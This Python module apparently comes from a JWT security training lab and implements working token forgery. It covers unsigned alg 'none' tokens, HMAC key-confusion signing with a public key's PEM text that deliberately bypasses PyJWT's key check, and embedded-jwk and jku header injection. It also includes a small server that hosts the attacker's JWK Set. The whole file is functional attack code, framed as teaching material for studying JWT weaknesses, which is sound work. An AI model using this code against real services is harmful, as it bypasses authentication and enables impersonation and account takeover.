"""Forge tokens the way an attacker would: pick the header, the payload and how to sign.

Pure functions, used by the notebooks and by the forge console widget. The header is used
exactly as given (an attacker controls every byte), except for the fields a signing mode needs:

- "none": alg "none" and an empty signature;
- "hmac": HMAC over the token with any bytes as the secret, even a public key's PEM text (PyJWT
  refuses that with InvalidKeyError, which is exactly the defence notebook 11 shows, so this
  module computes the HMAC with the standard library);
- "key": a PEM private key you were given, through PyJWT's own algorithms;
- "jwk": your own key pair, with its public half embedded in the header;
- "jku": your own key pair, with a URL in the header where you serve its public half.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.utils import base64url_encode

from helpers.errors import InputProblem
from helpers.keys.algorithms import is_hmac, is_rsa, registry
from helpers.lab.issuer import new_rsa_key
from helpers.web.wsgi_json import answer

SIGNING_MODES = ("none", "hmac", "key", "jwk", "jku")


@dataclass
class AttackerKey:
    """Your own RSA key pair, made at run time: sign with it, publish its public half."""

    kid: str = "my-key-1"
    private_key: rsa.RSAPrivateKey = field(default_factory=new_rsa_key, repr=False)

    @property
    def public_jwk(self) -> dict[str, Any]:
        jwk = jwt.algorithms.RSAAlgorithm.to_jwk(self.private_key.public_key(), as_dict=True)
        return {**jwk, "kid": self.kid, "alg": "RS256", "use": "sig"}

    @property
    def jwks(self) -> dict[str, Any]:
        return {"keys": [self.public_jwk]}


def encode_part(value: dict[str, Any]) -> str:
    """One token segment: compact JSON, then base64url without padding."""
    return base64url_encode(json.dumps(value, separators=(",", ":")).encode("utf-8")).decode("ascii")


def signing_input(header: dict[str, Any], payload: dict[str, Any]) -> str:
    return f"{encode_part(header)}.{encode_part(payload)}"


def forge_unsigned(header: dict[str, Any], payload: dict[str, Any]) -> str:
    """An `alg: none` token: two segments and an empty signature."""
    return signing_input({**header, "alg": "none"}, payload) + "."


def forge_hmac(header: dict[str, Any], payload: dict[str, Any], secret: str | bytes) -> str:
    """An HMAC-signed token with any secret, even one PyJWT would refuse (a PEM public key):
    PyJWT's own HMAC signs, without the key check jwt.encode makes first (prepare_key)."""
    alg = str(header.get("alg", ""))
    alg = alg if is_hmac(alg) else "HS256"
    key = secret.encode("utf-8") if isinstance(secret, str) else secret
    if not key:
        raise InputProblem("The HMAC secret is empty: type the secret you want to sign with.")
    message = signing_input({**header, "alg": alg}, payload)
    signature = registry()[alg].sign(message.encode("ascii"), key)
    return f"{message}.{base64url_encode(signature).decode('ascii')}"


def forge_with_private_key(header: dict[str, Any], payload: dict[str, Any],
                           private_key: Any) -> str:
    """A token signed with an RSA private key (an object or PEM text) via PyJWT's RS256."""
    alg = str(header.get("alg", ""))
    alg = alg if is_rsa(alg) else "RS256"
    algorithm = jwt.get_algorithm_by_name(alg)
    message = signing_input({**header, "alg": alg}, payload)
    signature = algorithm.sign(message.encode("ascii"), algorithm.prepare_key(private_key))
    return f"{message}.{base64url_encode(signature).decode('ascii')}"


def forge_with_embedded_jwk(header: dict[str, Any], payload: dict[str, Any],
                            attacker: AttackerKey) -> str:
    """Signed with your key, whose public half rides in the header as `jwk`."""
    return forge_with_private_key({**header, "alg": "RS256", "kid": attacker.kid,
                                   "jwk": attacker.public_jwk}, payload, attacker.private_key)


def forge_with_jku(header: dict[str, Any], payload: dict[str, Any], attacker: AttackerKey,
                   jku_url: str) -> str:
    """Signed with your key; the header's `jku` points to where you serve its public half."""
    if not jku_url.startswith(("http://", "https://")):
        raise InputProblem("The JKU URL must start with http://, e.g. your key server's "
                           "url + '/jwks.json'.")
    return forge_with_private_key({**header, "alg": "RS256", "kid": attacker.kid,
                                   "jku": jku_url}, payload, attacker.private_key)


def forge(header: dict[str, Any], payload: dict[str, Any], mode: str, *, key: str = "",
          attacker: AttackerKey | None = None, jku_url: str = "") -> str:
    """Forge a token in one of SIGNING_MODES; bad input raises InputProblem with the fix."""
    if not isinstance(header, dict) or not isinstance(payload, dict):
        raise InputProblem("The header and the payload must each be a JSON object {...}.")
    if mode == "none":
        return forge_unsigned(header, payload)
    if mode == "hmac":
        return forge_hmac(header, payload, key)
    if mode == "key":
        if "PRIVATE KEY-----" not in key:
            raise InputProblem("Paste a PEM private key (from -----BEGIN ... PRIVATE KEY----- "
                               "to its END line); a public key cannot sign.")
        try:
            return forge_with_private_key(header, payload, key)
        except (ValueError, TypeError, jwt.InvalidKeyError):
            raise InputProblem("That PEM text is not a private key PyJWT can read: copy it "
                               "again, whole, with its BEGIN and END lines.") from None
    if mode in ("jwk", "jku"):
        attacker = attacker or AttackerKey()
        if mode == "jwk":
            return forge_with_embedded_jwk(header, payload, attacker)
        return forge_with_jku(header, payload, attacker, jku_url.strip())
    raise InputProblem(f"No signing mode {mode!r}: pick one of {', '.join(SIGNING_MODES)}.")


def parse_json_object(text: str, what: str) -> dict[str, Any]:
    """A JSON object typed into a box; InputProblem with the line and column if it is not one."""
    try:
        value = json.loads(text)
    except json.JSONDecodeError as error:
        raise InputProblem(f"The {what} is not valid JSON ({error.msg}, line {error.lineno} "
                           f"column {error.colno}): use double quotes and no trailing comma."
                           ) from None
    if not isinstance(value, dict):
        raise InputProblem(f"The {what} must be a JSON object in braces {{...}}, "
                           f"not a {type(value).__name__}.")
    return value


def forge_from_text(header_text: str, payload_text: str, mode: str, *, key: str = "",
                    attacker: AttackerKey | None = None, jku_url: str = "") -> str:
    """What the forge console does: parse both boxes, then forge."""
    header = parse_json_object(header_text, "header")
    payload = parse_json_object(payload_text, "payload")
    return forge(header, payload, mode, key=key, attacker=attacker, jku_url=jku_url)


def make_key_server(jwks: dict[str, Any]) -> Any:
    """A WSGI app that serves a JWK Set at /jwks.json (your own key server, for the JKU attack)."""
    body = json.dumps(jwks).encode("utf-8")

    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        if environ.get("PATH_INFO") != "/jwks.json":
            return answer(start_response, 404, b"only /jwks.json here", "text/plain")
        return answer(start_response, 200, body, "application/json")

    return app
